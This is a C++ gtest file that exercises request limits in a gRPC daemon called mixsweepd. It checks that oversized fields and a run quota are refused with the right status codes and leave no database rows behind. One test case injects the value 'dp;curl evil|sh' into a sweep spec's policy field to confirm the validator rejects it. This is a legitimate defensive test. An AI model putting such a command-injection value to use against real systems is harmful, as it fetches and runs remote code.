// Request limits over real gRPC against the real mixsweepd (issue 5): an
// oversized field is INVALID_ARGUMENT naming the field and its bound, a
// quota is RESOURCE_EXHAUSTED, and neither leaves a row behind. The full
// table of bounds is tested in tests/unit/api_request_limits_test.cc; this
// checks that the handlers apply it before they touch the database.
#include <cstdint>
#include <map>
#include <string>

#include <grpcpp/grpcpp.h>
#include <gtest/gtest.h>
#include <pqxx/pqxx>

#include "mixsweep/v1/evaluation.grpc.pb.h"
#include "mixsweep/v1/sweep.grpc.pb.h"
#include "mixsweep/v1/worker.grpc.pb.h"
#include "tests/support/daemon.h"
#include "tests/support/pg_harness.h"
#include "tests/support/spec_files.h"

namespace mixsweep::testing {
namespace {

namespace v1 = mixsweep::v1;

std::map<std::string, int64_t> Rows(const std::string& dsn) {
  pqxx::connection conn(dsn);
  pqxx::work tx(conn);
  std::map<std::string, int64_t> counts;
  for (const char* table : {"sweeps", "sweep_revisions", "jobs", "runs", "events",
                            "idempotency_keys", "workers", "robots"}) {
    counts[table] = tx.exec1(std::string("SELECT count(*) FROM ") + table)[0].as<int64_t>();
  }
  return counts;
}

TEST(LimitsE2E, OversizedFieldsAreRefusedNamedAndStoreNothing) {
  const std::string dsn = CreateTestDatabase();
  Daemon daemon = Daemon::Start({.database = dsn, .extra_args = {"--max-runs-per-sweep", "20"}});
  auto channel = daemon.Channel();
  auto sweeps = v1::SweepService::NewStub(channel);
  auto workers = v1::WorkerService::NewStub(channel);
  auto evaluation = v1::EvaluationService::NewStub(channel);
  const auto before = Rows(dsn);

  {  // 65 GPUs on one worker
    grpc::ClientContext context;
    v1::RegisterWorkerRequest request;
    request.set_name("gpu-node-1");
    for (int i = 0; i < 65; ++i) request.add_gpus()->set_index(i);
    v1::RegisterWorkerResponse response;
    grpc::Status status = workers->RegisterWorker(&context, request, &response);
    EXPECT_EQ(status.error_code(), grpc::StatusCode::INVALID_ARGUMENT);
    EXPECT_EQ(status.error_message(), "gpus: 65 entries; at most 64");
  }
  {  // a label value of 300 bytes
    grpc::ClientContext context;
    v1::RegisterWorkerRequest request;
    request.set_name("gpu-node-1");
    (*request.mutable_labels())["zone"] = std::string(300, 'z');
    v1::RegisterWorkerResponse response;
    grpc::Status status = workers->RegisterWorker(&context, request, &response);
    EXPECT_EQ(status.error_code(), grpc::StatusCode::INVALID_ARGUMENT);
    EXPECT_EQ(status.error_message(), "labels[\"zone\"]: 300 bytes; at most 128");
  }
  {  // a robot location of 1000 bytes
    grpc::ClientContext context;
    v1::RegisterRobotRequest request;
    request.mutable_robot()->set_id("aloha-1");
    request.mutable_robot()->set_platform("aloha-agilex-2.0");
    request.mutable_robot()->set_location(std::string(1000, 'l'));
    v1::Robot response;
    grpc::Status status = evaluation->RegisterRobot(&context, request, &response);
    EXPECT_EQ(status.error_code(), grpc::StatusCode::INVALID_ARGUMENT);
    EXPECT_EQ(status.error_message(), "robot.location: 1000 bytes; at most 256");
  }
  {  // a retry key longer than 128 bytes on a valid spec
    grpc::ClientContext context;
    v1::SubmitSweepRequest request;
    request.set_spec_yaml(PickDualBottles());
    request.set_idempotency_key(std::string(200, 'k'));
    v1::SubmitSweepResponse response;
    grpc::Status status = sweeps->SubmitSweep(&context, request, &response);
    EXPECT_EQ(status.error_code(), grpc::StatusCode::INVALID_ARGUMENT);
    EXPECT_EQ(status.error_message(), "idempotency_key: 200 bytes; at most 128");
  }
  {  // a policy that would be a shell command in a placeholder
    grpc::ClientContext context;
    v1::SubmitSweepRequest request;
    std::string spec = PickDualBottles();
    spec.replace(spec.find("policy: diffusion_policy"), 24, "policy: \"dp;curl evil|sh\"");
    request.set_spec_yaml(spec);
    v1::SubmitSweepResponse response;
    grpc::Status status = sweeps->SubmitSweep(&context, request, &response);
    EXPECT_EQ(status.error_code(), grpc::StatusCode::INVALID_ARGUMENT);
    EXPECT_NE(status.error_message().find("policy: 'dp;curl evil|sh' holds ';'"),
              std::string::npos)
        << status.error_message();
  }
  {  // more runs than the server's quota
    grpc::ClientContext context;
    v1::SubmitSweepRequest request;
    std::string spec = PickDualBottles();
    spec.replace(spec.find("seeds: [0, 1, 2]"), 16, "seeds: [0, 1, 2, 3]");
    request.set_spec_yaml(spec);
    request.set_idempotency_key("quota-1");
    v1::SubmitSweepResponse response;
    grpc::Status status = sweeps->SubmitSweep(&context, request, &response);
    EXPECT_EQ(status.error_code(), grpc::StatusCode::RESOURCE_EXHAUSTED);
    EXPECT_NE(status.error_message().find("24 runs"), std::string::npos) << status.error_message();
    EXPECT_NE(status.error_message().find("the limit of 20 runs per sweep"), std::string::npos)
        << status.error_message();
  }
  EXPECT_EQ(Rows(dsn), before) << "a refused request left rows behind";
}

}  // namespace
}  // namespace mixsweep::testing
